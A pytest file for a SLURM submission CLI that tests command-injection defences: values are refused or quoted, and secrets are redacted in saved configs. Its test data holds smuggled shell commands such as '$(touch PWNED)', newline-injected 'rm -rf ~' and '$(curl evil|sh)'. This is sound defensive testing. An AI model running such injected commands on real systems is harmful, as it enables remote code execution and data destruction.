"""Hostile values for `submit` / `submit-preprocess` / the study template: refused by name before
anything is written, or written so that sbatch and bash read back exactly the value given.

References: sbatch's own reading of a script (``sbatch_directives`` below follows
src/sbatch/opt.c of SchedMD/slurm: ``#SBATCH`` lines up to the first command line, arguments split
at unquoted whitespace, ``\\`` escapes, ``'``/``"`` quote, an unescaped ``#`` ends the line), and
bash itself: the rendered scripts run with stand-in ``srun``/``sbatch``/``scontrol``/``scancel``
(and ``PYTHON``) that record their argv and environment.
"""

from __future__ import annotations

import argparse
import json
import os
import re
import stat
import subprocess

import pytest
import yaml

from megatron_gamma.cli import main, parse_args
from megatron_gamma.config import REDACTED
from megatron_gamma.data import demo_dir
from megatron_gamma.data.commands import add_preprocess_flags
from megatron_gamma.launch.slurm import SubmitError, render

# An --env value that runs commands if the script does not quote it.
HOSTILE_VALUE = "it's $(touch PWNED) `touch PWNED`; touch PWNED #"


def _arguments(rest: str) -> list[str]:
    """The arguments sbatch takes from what follows ``#SBATCH`` on one line."""
    out, i = [], 0
    while True:
        while i < len(rest) and rest[i].isspace():
            i += 1
        if i == len(rest):
            return out
        arg, quote, escape = [], None, False
        while i < len(rest) and (quote or not rest[i].isspace()):
            c = rest[i]
            i += 1
            if escape:
                escape = False
            elif c == "\\":
                escape = True
                continue
            elif quote:
                if c == quote:
                    quote = None
                    continue
            elif c in "\"'":
                quote = c
                continue
            elif c == "#":  # the rest of the line is a comment
                return out + ["".join(arg)] if arg else out
            arg.append(c)
        assert quote is None, f"unmatched {quote} in {rest!r}"  # sbatch: fatal
        out.append("".join(arg))


def sbatch_directives(text: str) -> list[str]:
    """The options sbatch reads from a script: its ``#SBATCH`` lines up to the first line that is
    neither blank nor a comment."""
    out = []
    for line in text.split("\n"):
        if line.startswith("#SBATCH"):
            assert not re.search("hetjob|packjob", line, re.IGNORECASE), line
            out += _arguments(line[len("#SBATCH") :])
        elif line.strip() and not line.lstrip().startswith("#"):
            break
    return out


@pytest.fixture
def stubs(tmp_path, monkeypatch):
    """Stand-ins first on PATH: ``sbatch`` (prints job id 4242), ``srun``, ``scontrol``,
    ``scancel`` and a ``python`` for $PYTHON; each appends its argv to ``<name>.calls`` in the
    folder returned (each argument NUL-terminated, each call ended by \\x01), and ``srun`` /
    ``python`` write the value of $X_HOSTILE to ``<name>.env``."""
    bin_dir, out = tmp_path / "stub-bin", tmp_path / "stub-calls"
    bin_dir.mkdir()
    out.mkdir()
    record = f"{{ printf '%s\\0' \"$@\"; printf '\\1'; }} >> {out}/$(basename \"$0\").calls\n"
    bodies = {
        "sbatch": "echo 4242\n",
        "srun": f"printf '%s' \"${{X_HOSTILE-}}\" > {out}/srun.env\n",
        "scontrol": "echo node1\n",
        "scancel": "",
        "python": f"printf '%s' \"${{X_HOSTILE-}}\" > {out}/python.env\n",
    }
    for name, body in bodies.items():
        (bin_dir / name).write_text(f"#!/bin/bash\n{record}{body}")
        (bin_dir / name).chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    return out


def _calls(stubs, name: str) -> list[list[str]]:
    """The argv of every call of stub ``name``, in order."""
    path = stubs / f"{name}.calls"
    if not path.exists():
        return []
    return [call.split("\0")[:-1] for call in path.read_text().split("\1")[:-1]]


def _files(root) -> set[str]:
    return {os.path.relpath(os.path.join(d, f), root) for d, _, fs in os.walk(root) for f in fs}


@pytest.fixture
def config(tmp_path) -> str:
    """A small config whose dataset files exist (empty stand-ins are enough before sbatch)."""
    data = tmp_path / "data"
    data.mkdir()
    for ext in (".bin", ".idx"):
        (data / f"demo{ext}").write_bytes(b"")
    path = tmp_path / "c.yaml"
    path.write_text(
        yaml.safe_dump(
            {
                "model": {"num_layers": 2, "hidden_size": 64, "num_attention_heads": 4},
                "data": {"data_path": [str(data / "demo")]},
                "training": {"micro_batch_size": 2, "global_batch_size": 16},
                "logging": {"run_dir": str(tmp_path / "run")},
            }
        )
    )
    return str(path)


HOSTILE_FLAGS = [
    (["--account", "acct\ntouch x"], "account='acct\\ntouch x': holds the control character '\\n'"),
    (["--qos", "high\r"], "qos='high\\r': holds the control character '\\r'"),
    (["--partition", "gpu\nrm -rf ~"], "partition='gpu\\nrm -rf ~': holds the control char"),
    (["--dependency", "singleton\n"], "dependency='singleton\\n': not a SLURM dependency"),
    (["--container-image", "i\n$(curl evil|sh)"], "container_image='i\\n$(curl evil|sh)': holds"),
    (["--env", "HF_TOKEN\n=x"], "env='HF_TOKEN\\n': not a shell variable name"),
    (["--env", "HF_TOKEN=line1\nsecret"], "env: the value of HF_TOKEN holds the control charac"),
    (["--account", "my-hetjob"], "account='my-hetjob': holds 'hetjob': sbatch starts a hetero"),
    (["--partition", "gpu; rm -rf ~"], "partition='gpu; rm -rf ~': not a SLURM name (letters, "),
    (["--qos", "high low"], "qos='high low': not a SLURM name"),
]


@pytest.mark.parametrize("flags, message", HOSTILE_FLAGS)
def test_hostile_cluster_values_are_refused_by_name_before_anything_is_written(
    config, stubs, tmp_path, capsys, flags, message
):
    before = _files(tmp_path)
    args = ["submit", "--config", config, "--nodes", "1", "--gpus-per-node", "2", *flags]
    assert main(args) == 2
    err = capsys.readouterr().err
    assert message in err and "Fix:" in err, err
    assert "secret" not in err  # an environment value is never shown
    assert _files(tmp_path) == before  # no script, no frozen config, sbatch never called


@pytest.mark.parametrize(
    "run_dir, message",
    [
        ("r\ny; curl evil|sh", "holds the control character '\\n'"),
        ("r\r", "holds the control character '\\r'"),
        ("runs-%j", "holds '%', which SLURM reads as a filename pattern"),
        ("packjob-runs", "holds 'packjob'"),
    ],
)
def test_hostile_run_dir_is_refused_by_name_before_anything_is_written(
    config, stubs, tmp_path, capsys, run_dir, message
):
    before = _files(tmp_path)
    path = str(tmp_path / run_dir)
    args = ["submit", "--config", config, "--nodes", "1", "--gpus-per-node", "2"]
    assert main([*args, "--run-dir", path]) == 2
    err = capsys.readouterr().err
    assert f"run_dir={path!r}: {message}" in err and "Fix:" in err, err
    assert _files(tmp_path) == before


def test_spaces_hashes_and_shell_syntax_survive_sbatch_and_bash(
    config, stubs, tmp_path, monkeypatch, capsys
):
    """A run directory and working directory with a space and '#', and an --env value full of
    shell syntax: sbatch reads every directive back exactly (none dropped), bash runs no injected
    command, and srun gets the exact paths and value."""
    workdir = tmp_path / "work dir#2"
    workdir.mkdir()
    monkeypatch.chdir(workdir)
    run = tmp_path / "runs #1" / "r 1"
    args = ["submit", "--config", config, "--run-dir", str(run), "--nodes", "1"]
    args += ["--gpus-per-node", "2", "--account", "proj42", "--qos", "high", "--partition", "gpu"]
    args += [
        "--time",
        "1:00:00",
        "--dependency",
        "singleton",
        "--env",
        f"X_HOSTILE={HOSTILE_VALUE}",
    ]
    assert main(args) == 0, capsys.readouterr().err
    script = run / "slurm" / "pretrain.sbatch"
    assert _calls(stubs, "sbatch") == [["--parsable", str(script)]]
    text = script.read_text()
    assert sbatch_directives(text) == [
        "--job-name=mg-r 1",
        "--nodes=1",
        "--ntasks-per-node=2",
        "--gpus-per-node=2",
        "--exclusive",
        "--account=proj42",
        "--qos=high",
        "--partition=gpu",
        "--time=1:00:00",
        "--dependency=singleton",
        f"--output={run}/slurm/%x-%j.out",
        "--open-mode=append",
        "--requeue",
        "--signal=B:USR1@300",
        f"--chdir={workdir}",
    ]
    env = dict(os.environ, SLURM_JOB_ID="7", SLURM_JOB_NODELIST="node1", SLURM_JOB_NUM_NODES="1")
    job = subprocess.run(["bash", str(script)], env=env, capture_output=True, text=True, timeout=60)
    assert job.returncode == 0, job.stdout + job.stderr
    assert "training finished with exit code 0" in job.stdout
    (srun,) = _calls(stubs, "srun")
    ckpt = str(run / "checkpoints")
    assert srun[srun.index("launch") + 1 :] == ["-m", "megatron_gamma.cli", "pretrain", "--config",
                        f"{run}/slurm/config.yaml", "--save", ckpt, "--load", ckpt]  # fmt: skip
    assert (stubs / "srun.env").read_text() == HOSTILE_VALUE
    assert not list(tmp_path.rglob("PWNED"))


def test_preprocess_paths_survive_sbatch_and_bash(stubs, tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    inputs = [os.path.join(demo_dir(), f) for f in ("zh.jsonl", "en.jsonl")]
    tok = os.path.join(demo_dir(), "tokenizer.json")
    prefix = tmp_path / "out #3" / "my corpus"
    args = ["submit-preprocess", "--input", *inputs, "--tokenizer-model", tok, "--num-shards", "2"]
    assert main([*args, "--output-prefix", str(prefix), "--env", f"X_HOSTILE={HOSTILE_VALUE}"]) == 0
    slurm = tmp_path / "out #3" / "slurm"
    script = slurm / "preprocess-my corpus.sbatch"
    text = script.read_text()
    assert sbatch_directives(text) == [
        "--job-name=mg-prep-my corpus",
        "--nodes=1",
        "--ntasks=1",
        "--cpus-per-task=1",
        f"--output={slurm}/%x-%j.out",
        f"--chdir={tmp_path}",
    ]
    env = dict(os.environ, SLURM_ARRAY_TASK_ID="1", SLURMD_NODENAME="node1", PYTHON="python")
    for mode in ("submit", "shard"):
        job = subprocess.run(["bash", str(script), mode], env=env, capture_output=True, text=True)
        assert job.returncode == 0, job.stdout + job.stderr
    assert _calls(stubs, "sbatch")[-2] == [
        "--parsable", "--array=0-1", f"--output={slurm}/%x-%A_%a.out", str(script), "shard",
    ]  # fmt: skip
    assert _calls(stubs, "python") == [
        ["-m", "megatron_gamma.cli", "preprocess", "--input", *inputs, f"--tokenizer-model={tok}",
         "--output-prefix", str(prefix), "--shard-index", "1", "--num-shards", "2",
         "--workers", "1", "--no-progress"],
    ]  # fmt: skip
    assert (stubs / "python.env").read_text() == HOSTILE_VALUE
    assert not list(tmp_path.rglob("PWNED"))


def test_every_preprocess_flag_reaches_each_task_exactly_as_given(
    stubs, tmp_path, monkeypatch, capsys
):
    """submit-preprocess takes preprocess's flags from the one definition
    (data.commands.add_preprocess_flags) and each task's preprocess parses back exactly the
    values given, a value that would run commands if unquoted among them."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "v.json").write_text(json.dumps({"<|endoftext|>": 0, "a": 1, "b": 2, "ab": 3}))
    (tmp_path / "m.txt").write_text("#version: 0.2\na b\n")
    inputs = [os.path.join(demo_dir(), f) for f in ("zh.jsonl", "en.jsonl")]
    prefix = str(tmp_path / "o" / "c")
    flags = [
        "--json-keys", "text", "title", "--lang-key", HOSTILE_VALUE, "--nfkc",
        "--punct-width", "half", "--on-error", "skip", "--tokenizer-type", "GPT2BPETokenizer",
        "--tokenizer-backend", "hf", "--chunk-size", "7", "--per-language", "--split-sentences",
        "--keep-newlines", "--keep-sequential-samples", "--no-append-eod", "--min-chars", "5",
        "--min-tokens", "2", "--max-symbol-ratio", "0.5", "--max-document-chars", "5000",
        "--log-interval", "50", "--workers", "3",
    ]  # fmt: skip
    files = ["--vocab-file", "v.json", "--merge-file", "m.txt"]
    args = ["--input", *inputs, "--output-prefix", prefix, "--num-shards", "2", *flags]
    assert main(["submit-preprocess", *args, *files]) == 0
    env = dict(os.environ, SLURM_ARRAY_TASK_ID="0", SLURMD_NODENAME="node1", PYTHON="python")
    script = tmp_path / "o" / "slurm" / "preprocess-c.sbatch"
    job = subprocess.run(["bash", str(script), "shard"], env=env, capture_output=True, text=True)
    assert job.returncode == 0, job.stdout + job.stderr
    (call,) = _calls(stubs, "python")
    assert call[:3] == ["-m", "megatron_gamma.cli", "preprocess"]
    assert f"--lang-key={HOSTILE_VALUE}" in call and f"--vocab-file={tmp_path}/v.json" in call
    task = vars(parse_args(call[2:]))
    files = ["--vocab-file", str(tmp_path / "v.json"), "--merge-file", str(tmp_path / "m.txt")]
    local = ["preprocess", *args, *files, "--shard-index", "0", "--no-progress"]
    assert task == vars(parse_args(local))
    defaults = vars(parse_args(["preprocess", "--input", "x", "--output-prefix", prefix]))
    shared = {a.dest for a in add_preprocess_flags(argparse.ArgumentParser())}
    unset = shared - {"input", "output_prefix", "tokenizer_model"}  # HF's: the test above
    assert not [d for d in unset if task[d] == defaults[d]]
    assert not list(tmp_path.rglob("PWNED"))


def test_preprocess_hostile_output_prefix_is_refused_by_name(stubs, tmp_path, capsys):
    tok = os.path.join(demo_dir(), "tokenizer.json")
    args = ["submit-preprocess", "--input", tok, "--tokenizer-model", tok, "--num-shards", "1"]
    for prefix, message in (
        (str(tmp_path / "o\ntouch x"), "holds the control character '\\n'"),
        (str(tmp_path / "%A" / "o"), "holds '%'"),
    ):
        assert main([*args, "--output-prefix", prefix]) == 2
        err = capsys.readouterr().err
        assert "output_prefix=" in err and message in err and "Fix:" in err, err
    assert _calls(stubs, "sbatch") == []


STUDY = dict(
    run_dirs=["/s/arm a/size#1/seed-0"],
    gpus_per_node=1,
    account=None,
    qos=None,
    partition=None,
    time="10",
    dependency=None,
    warning_seconds=60,
    container_image=None,
    container_mounts=None,
    workdir="/w",
    header=("study s",),
)


def test_study_array_directives_are_escaped_and_control_characters_refused(tmp_path):
    name = "mg-study-a b#c\"d'e\\f"
    text = render("study_array.sbatch.j2", **STUDY, job_name=name, log_dir="/s/lo gs")
    assert sbatch_directives(text) == [
        f"--job-name={name}", "--array=0-0", "--nodes=1", "--ntasks-per-node=1",
        "--gpus-per-node=1", "--time=10", "--output=/s/lo gs/%x-%A_%a.out", "--open-mode=append",
        "--requeue", "--signal=B:USR1@60", "--chdir=/w",
    ]  # fmt: skip
    bad = {**STUDY, "job_name": "j", "log_dir": "/l"}
    for key, value in (("job_name", "a\ntouch x"), ("header", ("ok", "x\ntouch x"))):
        with pytest.raises(SubmitError, match=rf"{key}=.*holds the control character '\\n'"):
            render("study_array.sbatch.j2", **{**bad, key: value})
    with pytest.raises(SubmitError, match=r"run_dirs='/s\\r': holds the control character"):
        render("study_array.sbatch.j2", **{**bad, "run_dirs": ["/s\r"]})


def test_scripts_keep_the_umask_and_are_private_with_environment_values(
    config, stubs, tmp_path, capsys
):
    old = os.umask(0o027)
    try:
        base = ["submit", "--config", config, "--nodes", "1", "--gpus-per-node", "2"]
        script = tmp_path / "run" / "slurm" / "pretrain.sbatch"
        assert main(base) == 0
        assert stat.S_IMODE(os.stat(script).st_mode) == 0o750
        assert main([*base, "--env", "HF_TOKEN=x"]) == 0
        assert stat.S_IMODE(os.stat(script).st_mode) == 0o700
        tok = os.path.join(demo_dir(), "tokenizer.json")
        pre = ["submit-preprocess", "--input", tok, "--tokenizer-model", tok, "--num-shards", "1"]
        assert main([*pre, "--output-prefix", str(tmp_path / "p" / "o"), "--env", "A=1"]) == 0
        assert stat.S_IMODE(os.stat(tmp_path / "p" / "slurm" / "preprocess-o.sbatch").st_mode) == (
            0o700
        )
    finally:
        os.umask(old)


def test_saved_configs_hold_environment_names_not_values(config, stubs, tmp_path, capsys):
    """The frozen config records cluster.env redacted; submitting it again asks for the value
    instead of exporting the placeholder."""
    with open(config, encoding="utf-8") as f:
        raw = yaml.safe_load(f)
    raw["cluster"] = {"env": {"HF_TOKEN": "secret123", "NCCL_IB_TIMEOUT": "22"}}
    (tmp_path / "secret.yaml").write_text(yaml.safe_dump(raw))
    base = ["submit", "--nodes", "1", "--gpus-per-node", "2"]
    assert main([*base, "--config", str(tmp_path / "secret.yaml"), "--dry-run"]) == 0
    printed = capsys.readouterr().out  # a dry run prints the script: names, not values
    assert "secret123" not in printed and f"export HF_TOKEN='{REDACTED}'" in printed.splitlines()
    tok = os.path.join(demo_dir(), "tokenizer.json")
    pre = ["submit-preprocess", "--input", tok, "--tokenizer-model", tok, "--num-shards", "1"]
    pre += ["--output-prefix", str(tmp_path / "o"), "--env", "K=s3cr3t"]
    assert main([*pre, "--dry-run"]) == 0
    printed = capsys.readouterr().out
    assert "s3cr3t" not in printed and f"export K='{REDACTED}'" in printed.splitlines()
    script = tmp_path / "slurm" / "preprocess-o.sbatch"
    assert f"# DRY RUN: the values of K are printed as {REDACTED};" in printed.splitlines()
    assert f"# with them to {script}." in printed.splitlines()
    assert main([*base, "--config", str(tmp_path / "secret.yaml")]) == 0
    slurm = tmp_path / "run" / "slurm"
    assert "export HF_TOKEN=secret123" in (slurm / "pretrain.sbatch").read_text().splitlines()
    frozen_text = (slurm / "config.yaml").read_text()
    assert "secret123" not in frozen_text
    frozen = yaml.safe_load(frozen_text)
    assert frozen["cluster"]["env"] == {"HF_TOKEN": REDACTED, "NCCL_IB_TIMEOUT": REDACTED}
    capsys.readouterr()
    again = [*base, "--config", str(slurm / "config.yaml"), "--run-dir", str(tmp_path / "again")]
    again += ["--save", str(tmp_path / "again" / "ck"), "--load", str(tmp_path / "again" / "ck")]
    assert main(again) == 2
    err = capsys.readouterr().err
    assert f"cluster.env: HF_TOKEN={REDACTED}: the config was saved by megatron-gamma" in err
    assert "Fix: pass --env HF_TOKEN=VALUE" in err
    assert main([*again, "--env", "HF_TOKEN=s2", "--env", "NCCL_IB_TIMEOUT=22"]) == 0
    lines = (tmp_path / "again" / "slurm" / "pretrain.sbatch").read_text().splitlines()
    assert "export HF_TOKEN=s2" in lines and "export NCCL_IB_TIMEOUT=22" in lines
